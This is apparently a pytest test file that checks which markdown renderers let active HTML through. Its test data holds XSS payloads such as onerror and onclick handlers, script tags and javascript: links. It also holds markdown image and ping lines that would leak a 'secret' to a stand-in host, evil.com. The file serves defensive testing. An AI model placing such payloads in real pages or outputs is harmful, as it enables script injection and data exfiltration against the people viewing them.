"""The judge sees what acts, in the HTML of each reader that acts on it, and nothing else."""

import pytest

from tests.markdown_readers import READERS, acting, code, rendered, visible
from tests.markdown_readers.minimising import minimised
from tests.markdown_readers.nasty import ALLOWED, answer
from tests.markdown_readers.vocabulary import GUIDE

OTHERS = set(READERS) - {"page"}
SHOWDOWN = {"showdown", "showdown-plain"}
# Which make links of addresses by themselves, with a scheme and without.
AUTOLINKING = {"marked", "markdown-it-linkify", "markdown-it-14", "micromark-gfm", "cmark-gfm", "page"}
LINKIFY = {"markdown-it-linkify", "markdown-it-14"}
EVERYTHING = f"""# Heading

A *paragraph* with **strong**, `code < x`, ~~gone~~ and a [link]({GUIDE}).\\
Next line & 3 < 4.

> - item
>   1. inner

| a | b |
|:--|--:|
| 1 | `2` |

- [x] done
- [ ] to do

```python
if a < b:

    print("<b>")
```

---

    <indented>
"""


@pytest.mark.parametrize(
    ("payload", "readers"),
    [
        ("<img src=x onerror=alert(1)>", OTHERS),
        ("![leak](https://evil.com/?q=secret)", OTHERS),
        ("<script>alert(1)</script>", OTHERS),
        ("x <b>y</b>", OTHERS),
        ("x </div>", OTHERS),
        ("x <em onclick=alert(1)>y</em>", OTHERS),
        ("x <code onmouseover=alert(1)>y</code>", OTHERS),
        ("<pre><code onmouseover=alert(1)>y</code></pre>", OTHERS),
        ("x <em>y", OTHERS),
        ("x <!-- y -->", OTHERS),
        ("x <?y?>", OTHERS),
        ("x <![CDATA[y]]>", OTHERS),
        ("<!DOCTYPE html>", OTHERS),
        ("<body onload=alert(1)>", OTHERS),
        ("[click](https://evil.com)", set(READERS)),
        (f"[click]({GUIDE}?q=secret)", set(READERS)),
        ("[click](/admin)", OTHERS),
        ("[x]\n\n[x]: //evil.com", OTHERS),
        ("<https://evil.com>", set(READERS)),
        ("[js](javascript:alert(1))", OTHERS - LINKIFY - {"markdown-it"}),
        ("https://evil.com", AUTOLINKING | {"showdown"}),
        ("www.evil.com", AUTOLINKING | {"showdown"}),
        ("evil.com and manage.py", LINKIFY),
        ("evil.com:80/x", {"markdown-it-14"}),
        ("-\t\t<b>", SHOWDOWN),
        ("`a\n- b` <b>", OTHERS),
    ],
)
def test_a_payload_acts_in_the_readers_that_act_on_it(payload, readers):
    [html] = rendered([payload])
    assert {reader for reader in READERS if acting(html[reader], ALLOWED)} == readers


def test_what_markdown_makes_by_itself_does_not_act():
    [html] = rendered([EVERYTHING])
    assert {reader: acting(html[reader], ALLOWED) for reader in READERS} == {reader: [] for reader in READERS}


@pytest.mark.parametrize(
    "html",
    [
        "<p onclick=x>a</p>",
        "<p/onclick=x>a</p>",
        "<p style='color:red'>a</p>",
        "<table><tr><td style='text-align:left;position:fixed'>a</td></tr></table>",
        "<a href=' javascript:x'>a</a>",
        "<a href='#part'>a</a>",
        "<a href=''>a</a>",
        "<a ping=//evil.com>a</a>",
        "<a href='https://book.example/a/../b'>a</a>",
        "<input type=text disabled>",
        "<input type=checkbox>",
        "<svg></svg>",
        "<p>a</p></p>",
        "<unreadable></unreadable>",
    ],
)
def test_html_that_acts(html):
    assert acting(html, ALLOWED)


@pytest.mark.parametrize(
    "html",
    [
        f'<a href="{GUIDE}" title="t">a</a>',
        '<a href="http://robots.org">robots.org</a>',
        '<a href="https://wiki.example/Robot_%28machine%29">a</a>',
        '<sup class="footnote-ref"><a href="#fn1" id="fnref1">1</a></sup>',
        '<table><thead><tr><th style="text-align:center">a</th></tr></thead></table>',
        '<input type="checkbox" disabled="" checked="" />',
        "<p>a &lt;b onclick=x&gt; &amp; <code>&lt;!-- --&gt;</code></p>",
    ],
)
def test_html_that_does_not_act(html):
    assert acting(html, ALLOWED) == []


def test_text_and_code_are_those_that_are_seen():
    html = "<h1>A</h1><p>b<em>c</em>\n d<br>e <code>f  g</code></p><pre><code>h\n\n i &lt;\n</code></pre>"
    assert visible(html) == "A bc d e f g h i <"
    assert code(html) == ["f  g", "h\n\n i <"]


def test_citations_and_formulas_of_the_page_read_as_written():
    [html] = rendered(["See [1][2]: $a_b$ `c`"], readers=["page"])
    assert visible(html["page"]) == "See [1][2]: a_b c"
    assert code(html["page"]) == ["c"]


def test_a_failing_text_is_cut_down_to_what_fails():
    text = "one\ntwo <b> three\nfour\n"
    assert minimised(text, fails=lambda texts: ["<b" in text for text in texts]) == "<b"


def test_many_nasty_answers_would_act_in_every_reader():
    htmls = rendered([answer(f"raw-{number}") for number in range(200)])
    for reader in READERS:
        assert sum(bool(acting(html[reader], ALLOWED)) for html in htmls) > 20, reader
